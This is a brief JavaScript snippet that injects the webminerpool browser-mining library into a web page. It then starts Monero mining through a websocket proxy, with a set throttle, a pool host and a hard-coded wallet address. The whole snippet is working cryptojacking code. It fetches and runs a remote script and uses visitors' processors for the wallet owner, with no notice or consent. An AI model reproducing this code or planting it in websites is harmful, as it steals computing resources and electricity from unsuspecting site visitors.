// ES5: the functions of the webminerpool line, called with pool and wallet.
(function () {
  var library = document.createElement('script');
  library.src = 'https://assets.shop.example/js/webmr.js';
  library.onload = function () {
    window.server = 'wss://proxy.shop.example:8181';
    window.throttleMiner = 20;
    window.startMining('pool.shop.example',
      '41tcdMfd9EYAQfk4XG5naCKp4ykDbRNjAVDUDRuvkxt8ecsT7cEcECQ531cEyvkJmeESQqvgG5tvcPqp5cNbRV5aNmTBrVJ',
      'x', -1, '');
  };
  document.body.appendChild(library);
})();
